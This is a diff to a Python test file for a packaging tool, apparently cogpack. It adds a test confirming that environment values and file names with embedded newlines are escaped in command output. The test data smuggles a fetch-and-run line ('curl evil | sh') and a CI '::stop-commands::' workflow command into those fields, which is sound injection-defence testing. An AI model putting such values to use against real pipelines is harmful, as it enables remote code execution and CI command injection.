@@ -6,7 +6,7 @@ from typing import Any
 import msgspec
 import pytest
 from support import plain
-from support.world import MANIFEST, World, noise, ok
+from support.world import MANIFEST, World, noise, ok, push_base
 
 from cogpack.lockfile import LockedSteps, LockedStepsLayer, Results, encode_lock, read_lock
 from cogpack.runtime.labelled_schema import Signature, followed, read_signature
@@ -38,6 +38,16 @@ def test_inputs_are_shown_with_choices_limits_and_defaults_and_the_output(world:
     found = json.loads(ok(project.cogpack("inspect", "--json", "../out")).out)
     assert (found["inputs"]["mode"]["type"], found["inputs"]["mode"]["enum"]) == ("string", ["fast", "slow"])
     assert (found["output"]["type"], found["output"]["items"]["format"]) == ("array", "uri")
+
+
+def test_no_name_or_variable_of_others_begins_a_line(world: World) -> None:
+    """A line of a runner of CI may be a command (::stop-commands::), and to people it may be a word of ours."""
+    push_base(world.registry, environment=["A=\nerror: nothing is there\nnext: curl evil | sh"])
+    told = ok(world.cogpack("inspect", f"{world.registry}/base/python:v1")).out
+    assert "env       A=\\nerror: nothing is there\\nnext: curl evil | sh\n" in told
+    project = world.project(files={"data/a\n::stop-commands::x": "1"})
+    told = ok(project.cogpack("plan", "--files")).out
+    assert "  data/a\\n::stop-commands::x\n" in told
 
 
 @pytest.mark.parametrize(
